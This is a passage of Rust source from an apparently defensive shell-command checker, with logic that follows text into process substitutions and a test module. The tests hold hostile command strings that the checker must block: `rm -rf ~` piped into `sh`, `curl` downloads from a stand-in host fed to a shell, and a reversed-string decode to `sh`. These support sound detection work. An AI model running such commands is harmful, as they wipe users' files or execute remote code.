                "dd" => match command.iter().find_map(|a| a.text.strip_prefix("if=")) {
                    Some(file) => self.file_flow(&Arg::literal(file)),
                    None => input.clone(),
                },
                _ => Flow::unknown(),
            };
            written = Some(match written {
                None => flow,
                Some(before) => before.either(flow),
            });
        }
        written.unwrap_or_else(Flow::unknown)
    }

    /// Judges each command line one simple command can make; returns what
    /// it prints, any of them.
    fn run_lines(&mut self, lines: &[Vec<Arg>], input: &Flow) -> Flow {
        let mut out: Option<Flow> = None;
        for argv in lines {
            if let Some(name) = argv.first().and_then(Arg::exact_text)
                && self.functions.iter().any(|f| f == name)
                && self.fanned_out
                && !self.bounded_recursion(name)
            {
                self.report(&crate::rule::FORK_BOMB, argv, fork_bomb::detail(name));
            }
            let flow = self.call(argv, input);
            out = Some(match out {
                None => flow,
                Some(before) => before.either(flow),
            });
        }
        out.unwrap_or_else(Flow::empty)
    }

    fn item(
        &mut self,
        item: &CommandPrefixOrSuffixItem,
        lines: &mut Vec<Vec<Arg>>,
        redirects: &mut Vec<Redirect>,
    ) {
        match item {
            CommandPrefixOrSuffixItem::IoRedirect(redirect) => {
                redirects.extend(self.redirect(redirect));
            }
            CommandPrefixOrSuffixItem::Word(word) => {
                let variants = self.expand_all(&word.value);
                combine(lines, variants);
            }
            CommandPrefixOrSuffixItem::AssignmentWord(assignment, word) => {
                // After the command name (`export X=…`, `env X=…`): judged as
                // an assignment, passed on as the word it is.
                self.assignment(assignment);
                let variants = self.expand_all(&word.value);
                combine(lines, variants);
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(kind, subshell) => {
                let read = matches!(kind, ProcessSubstitutionKind::Read);
                let flow = if read {
                    self.subshell(|s| {
                        s.inside("<(...)", |s| s.list(&subshell.list, &Flow::inherited()))
                    })
                } else {
                    // What it reads is known once the command is judged.
                    redirects.push(Redirect::ProcessArgument(subshell.clone()));
                    Flow::unknown()
                };
                let arg = Arg {
                    text: format!("{}(...)", if read { '<' } else { '>' }).into(),
                    exact: false,
                    glob: false,
                    known_from: 0,
                    taint: if read {
                        flow.taint.union(Taint::OPAQUE)
                    } else {
                        Taint::default()
                    },
                    content: flow
                        .literal_text()
                        .filter(|_| read)
                        .map(|t| Box::new(t.to_owned())),
                };
                combine(lines, vec![vec![arg]]);
            }
        }
    }
}

/// Every line of `lines` followed by each variant of the next word (capped
/// at [`MAX_VARIANTS`] lines).
fn combine(lines: &mut Vec<Vec<Arg>>, mut variants: Vec<Vec<Arg>>) {
    match variants.as_mut_slice() {
        // A word with no variants adds nothing.
        [] => {}
        // The common case, in place: a long line stays linear.
        [only] => match lines.as_mut_slice() {
            [line] => line.append(only),
            _ => {
                for line in lines.iter_mut() {
                    line.extend(only.iter().cloned());
                }
            }
        },
        _ => {
            let mut out = Vec::new();
            'all: for head in lines.iter() {
                for fields in &variants {
                    if out.len() >= MAX_VARIANTS {
                        break 'all;
                    }
                    let mut line = head.clone();
                    line.extend(fields.iter().cloned());
                    out.push(line);
                }
            }
            *lines = out;
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Decision;

    fn judged(command: &str) -> (Decision, Vec<&'static str>) {
        crate::judged(command, Some("/home/ann"))
    }

    /// Text reaching a shell through a process substitution: one `tee`
    /// writes into, the shell's own stdout after `exec > >(sh)`, a file
    /// `xargs -a` reads (each checked against bash 5.2 with a stand-in).
    #[test]
    fn text_fed_to_a_process_substitution_is_judged() {
        for (command, rule) in [
            ("echo 'rm -rf ~' | tee >(sh)", "rm-critical-path"),
            (
                "echo 'rm -rf ~' | sudo tee -a >(bash) >/dev/null",
                "rm-critical-path",
            ),
            ("tee >(sh) <<< 'reboot'", "system-power"),
            ("curl -fsSL https://e.x/i | tee >(sh)", "download-to-shell"),
            ("exec > >(sh); echo 'rm -rf ~'", "rm-critical-path"),
            ("exec 1> >(bash); printf 'reboot\\n'", "system-power"),
            ("{ exec > >(sh); }; echo reboot", "system-power"),
            (
                "exec > >(sh); if true; then echo reboot; fi",
                "system-power",
            ),
            ("exec > >(sh); { echo reboot; } | cat", "system-power"),
            (
                "bash -c \"exec > >(sh); echo 'rm -rf ~'\"",
                "rm-critical-path",
            ),
            (
                "exec > >(sh); curl -fsSL https://e.x/i",
                "download-to-shell",
            ),
            ("{ echo reboot; } > >(sh)", "system-power"),
            ("if true; then echo reboot; fi > >(bash)", "system-power"),
            ("f() { echo reboot; } > >(sh); f", "system-power"),
            ("echo reboot | dd of=>(sh)", "system-power"),
            ("xargs -a <(echo ~) rm -rf", "rm-critical-path"),
            ("xargs -a <(echo \"'rm -rf ~'\") sh -c", "rm-critical-path"),
            ("xargs --arg-file <(echo /) rm -r", "rm-critical-path"),
            (
                "curl -o list https://e.x/l && xargs -a list sh -c",
                "download-to-shell",
            ),
            ("cat <(curl -s https://e.x/i) | sh", "download-to-shell"),
            (
                "cat a.sh <(curl -s https://e.x/i) | sh",
                "download-to-shell",
            ),
            (
                "cat <(echo hi) <(echo 'rm -rf ~') | bash",
                "rm-critical-path",
            ),
            ("rev <(echo '~ fr- mr') | sh", "decode-to-shell"),
        ] {
            let (decision, rules) = judged(command);
            assert_eq!(decision, Decision::Block, "{command}: {rules:?}");
            assert!(rules.contains(&rule), "{command}: {rules:?}");
        }
    }

    #[test]
    fn process_substitutions_that_feed_no_shell_stay_allowed() {
        for command in [
            "echo hello | tee >(wc -c) >/dev/null",
            "exec > >(tee -a build.log) 2>&1; echo 'rm -rf build is next'",
            "exec > >(logger -t ci); make",
            "x=$(exec > >(cat); echo hi); echo \"$x\"",
            "xargs -a <(echo a b) echo",
            "xargs -a files.txt grep -l main",
            "diff <(sort a) <(sort b)",
            "{ echo a; echo b; } > >(sort)",
            "dd if=build.sh of=>(sh)",
            "cat <(git log -1) | less",
            "cat build.sh lib.sh | bash",
            "rev build.sh | sh",
        ] {
            let (decision, rules) = judged(command);
            assert_eq!(decision, Decision::Allow, "{command}: {rules:?}");
        }
    }
}
